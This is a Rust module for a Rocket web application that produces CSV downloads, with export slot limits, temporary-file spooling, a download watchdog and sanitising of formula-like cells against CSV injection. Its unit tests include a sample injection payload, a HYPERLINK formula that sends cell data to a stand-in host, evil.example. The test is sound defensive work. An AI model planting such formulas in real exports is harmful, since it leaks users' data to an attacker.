//! CSV downloads of every list and report.
//!
//! An export first runs its query to the end, writing rows through the `csv`
//! writer into a temporary file (a million rows take a few seconds and
//! almost no memory), and only then answers with the file and its exact
//! `Content-Length`. So:
//! - every export goes through [`Exports::open`], which waits for one of
//!   `[default.exports] slots` BEFORE it takes a pooled connection, so
//!   queued downloads never hold connections pages need;
//! - the slot and the connection are held only while the query runs, never
//!   while a slow or stalled client reads the download;
//! - an export that fails in the database answers with an error page, never
//!   a short file; and if sending fails midway (the client stopped reading
//!   for longer than `[default.timeouts] download`), the connection ends
//!   before the announced length, so the browser reports a failed download.
//!
//! Every cell a spreadsheet would read as a formula is neutralised (OWASP's
//! advice for CSV injection), while plain numbers stay numbers.

use std::borrow::Cow;
use std::io;
use std::pin::Pin;
use std::sync::{Arc, Mutex, PoisonError};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use futures::{Stream, StreamExt};
use rocket::http::{ContentType, Header};
use rocket::response::{self, Responder, Response};
use rocket::tokio::io::{AsyncRead, AsyncSeekExt, AsyncWriteExt, BufWriter, ReadBuf};
use rocket::tokio::sync::{OwnedSemaphorePermit, Semaphore};
use rocket::Request;
use serde::{Deserialize, Serialize};

use super::AppError;
use crate::db::Db;
use sqlx::pool::PoolConnection;
use sqlx::Postgres;

/// Rows written per chunk.
const CHUNK: usize = 500;

/// How many exports may run at once (`[default.exports]`), and how long a
/// request waits for its turn before being told to try again.
#[derive(Debug, Clone, Deserialize)]
#[serde(default)]
pub struct ExportConfig {
    pub slots: usize,
    pub wait_seconds: u64,
}

impl Default for ExportConfig {
    fn default() -> Self {
        ExportConfig { slots: 4, wait_seconds: 5 }
    }
}

/// The exports' own share of the server: a few slots, each holding at most
/// one pooled connection while its query runs.
pub struct Exports {
    slots: Arc<Semaphore>,
    wait: Duration,
    download_timeout: Duration,
}

/// The right to run one export's query, held until the file is written.
pub struct ExportSlot {
    _permit: OwnedSemaphorePermit,
}

impl Exports {
    pub fn from_figment(figment: &rocket::figment::Figment) -> Exports {
        let config: ExportConfig = figment.extract_inner("exports").unwrap_or_default();
        let pool = figment.extract_inner::<usize>("databases.shop.max_connections").unwrap_or(16);
        // Pages keep at least half the pool whatever is configured.
        let most = (pool / 2).max(1);
        if config.slots > most {
            tracing::warn!(configured = config.slots, used = most, "exports.slots is capped at half the pool");
        }
        let timeouts = super::security::Timeouts::from_figment(figment);
        Exports {
            slots: Arc::new(Semaphore::new(config.slots.clamp(1, most))),
            wait: Duration::from_secs(config.wait_seconds),
            download_timeout: Duration::from_secs(timeouts.download),
        }
    }

    /// Waits for a free slot, and only then takes the pooled connection the
    /// export's query runs on. The one way into an export: no request waits
    /// for a slot while holding a connection.
    pub async fn open(&self, db: &Db) -> Result<(ExportSlot, PoolConnection<Postgres>), AppError> {
        let slot = self.slot().await?;
        let conn = db.conn().await?;
        Ok((slot, conn))
    }

    /// Waits for a free slot, or answers "busy" after the configured wait.
    async fn slot(&self) -> Result<ExportSlot, AppError> {
        match rocket::tokio::time::timeout(self.wait, self.slots.clone().acquire_owned()).await {
            Ok(Ok(permit)) => Ok(ExportSlot { _permit: permit }),
            _ => Err(AppError::Busy(
                "Other downloads are being prepared right now. Please try again in a minute.".into(),
            )),
        }
    }
}

/// `cell` as a spreadsheet should see it: text that would start a formula
/// (`=`, `+`, `-`, `@`, tab, carriage return) gets a leading apostrophe, so
/// it shows as typed and never runs; a plain number such as `-12.50` is left
/// alone, since a number cannot be a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// Serialises `records` as CSV rows with every cell neutralised.
fn write_rows<R: Serialize>(records: &[R], out: &mut Vec<u8>) -> Result<(), csv::Error> {
    // Serde writes the cells; reading them back gives each cell as text to
    // neutralise, whatever the record's type.
    let mut plain = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::with_capacity(records.len() * 80));
    for record in records {
        plain.serialize(record)?;
    }
    let plain = plain.into_inner().map_err(|e| csv::Error::from(e.into_error()))?;
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(plain.as_slice());
    let mut writer = csv::WriterBuilder::new().has_headers(false).flexible(true).from_writer(out);
    let mut row = csv::StringRecord::new();
    while reader.read_record(&mut row)? {
        writer.write_record(row.iter().map(neutralise).map(|c| c.into_owned()))?;
    }
    writer.flush()?;
    Ok(())
}

/// A CSV file ready to send. It holds no slot and no connection.
pub struct Csv {
    filename: String,
    file: rocket::tokio::fs::File,
    len: u64,
    download_timeout: Duration,
}

impl Csv {
    /// Runs the export to the end into a temporary file. `header` names the
    /// columns; each record serialises to one row. The stream's database
    /// connection and the export's slot are returned as soon as the last row
    /// is read, before any of the file is sent.
    pub async fn spool<R, E, S>(
        exports: &Exports,
        slot: ExportSlot,
        filename: &str,
        header: &'static [&'static str],
        records: S,
    ) -> Result<Csv, AppError>
    where
        R: Serialize + Send + 'static,
        E: Into<AppError> + Send + 'static,
        S: Stream<Item = Result<R, E>> + Send + 'static,
    {
        let context = format!("could not write {filename}");
        let internal = |e: Box<dyn std::error::Error + Send + Sync>| AppError::internal(context.clone(), e);
        let file = rocket::tokio::task::spawn_blocking(tempfile::tempfile)
            .await
            .map_err(|e| internal(Box::new(e)))?
            .map_err(|e| internal(Box::new(e)))?;
        let mut out = BufWriter::with_capacity(256 * 1024, rocket::tokio::fs::File::from_std(file));
        let mut buffer = Vec::with_capacity(CHUNK * 100);
        write_rows(&[header], &mut buffer).map_err(|e| internal(Box::new(e)))?;
        let mut chunks = Box::pin(records.chunks(CHUNK));
        while let Some(chunk) = chunks.next().await {
            let mut rows = Vec::with_capacity(chunk.len());
            for record in chunk {
                rows.push(record.map_err(Into::into)?);
            }
            write_rows(&rows, &mut buffer).map_err(|e| internal(Box::new(e)))?;
            out.write_all(&buffer).await.map_err(|e| internal(Box::new(e)))?;
            buffer.clear();
            // Rows may arrive faster than they are written: let pages run between chunks.
            rocket::tokio::task::yield_now().await;
        }
        // The query is done: its connection goes back to the pool, and its
        // slot to the next export, now; sending the file needs neither.
        drop(chunks);
        drop(slot);
        out.write_all(&buffer).await.map_err(|e| internal(Box::new(e)))?;
        out.flush().await.map_err(|e| internal(Box::new(e)))?;
        let mut file = out.into_inner();
        let len = file.stream_position().await.map_err(|e| internal(Box::new(e)))?;
        file.rewind().await.map_err(|e| internal(Box::new(e)))?;
        Ok(Csv { filename: filename.to_string(), file, len, download_timeout: exports.download_timeout })
    }
}

impl<'r> Responder<'r, 'static> for Csv {
    fn respond_to(self, _: &'r Request<'_>) -> response::Result<'static> {
        let body = Download::watch(self.file, self.download_timeout);
        Response::build()
            .header(ContentType::new("text", "csv").with_params(("charset", "utf-8")))
            .header(Header::new("Content-Disposition", format!("attachment; filename=\"{}\"", self.filename)))
            // The exact length: a download cut short is then visibly incomplete.
            .header(Header::new("Content-Length", self.len.to_string()))
            .streamed_body(body)
            .ok()
    }
}

/// What a download and its watchdog share.
struct Sending {
    file: Option<rocket::tokio::fs::File>,
    last_read: Instant,
    finished: bool,
}

/// The body of a download. A watchdog abandons it (closing the file) when
/// the client has not taken any of it for the download timeout; the
/// response then ends short of its `Content-Length`.
struct Download(Arc<Mutex<Sending>>);

impl Download {
    fn watch(file: rocket::tokio::fs::File, timeout: Duration) -> Download {
        let shared = Arc::new(Mutex::new(Sending { file: Some(file), last_read: Instant::now(), finished: false }));
        let watched = Arc::downgrade(&shared);
        let tick = (timeout / 4).max(Duration::from_millis(50));
        rocket::tokio::spawn(async move {
            loop {
                rocket::tokio::time::sleep(tick).await;
                let Some(shared) = watched.upgrade() else { return };
                let mut sending = shared.lock().unwrap_or_else(PoisonError::into_inner);
                if sending.finished {
                    return;
                }
                if sending.last_read.elapsed() >= timeout {
                    tracing::warn!("a download was abandoned: the client stopped reading it");
                    sending.file = None;
                    return;
                }
            }
        });
        Download(shared)
    }
}

impl AsyncRead for Download {
    fn poll_read(self: Pin<&mut Self>, cx: &mut Context<'_>, buf: &mut ReadBuf<'_>) -> Poll<io::Result<()>> {
        let mut sending = self.0.lock().unwrap_or_else(PoisonError::into_inner);
        sending.last_read = Instant::now();
        let Some(file) = sending.file.as_mut() else {
            return Poll::Ready(Err(io::Error::new(io::ErrorKind::TimedOut, "the download was abandoned")));
        };
        let before = buf.filled().len();
        let polled = Pin::new(file).poll_read(cx, buf);
        if matches!(polled, Poll::Ready(Ok(()))) && buf.filled().len() == before && !sending.finished {
            // All sent: the watchdog can stop.
            sending.finished = true;
        }
        polled
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        for (cell, shown) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            ),
            ("+1+2", "'+1+2"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("-12.50", "-12.50"),
            ("-7", "-7"),
            ("12.50", "12.50"),
            ("Ada Lovelace", "Ada Lovelace"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), shown, "{cell:?}");
        }
    }

    #[test]
    fn every_cell_of_a_record_is_neutralised() {
        #[derive(Serialize)]
        struct Row {
            id: i64,
            name: String,
            total: crate::domain::Money,
        }
        let mut out = Vec::new();
        write_rows(&[Row { id: -3, name: "=1+1".into(), total: crate::domain::Money::from_cents(-1250) }], &mut out)
            .unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "-3,'=1+1,-12.50\n");
    }
}
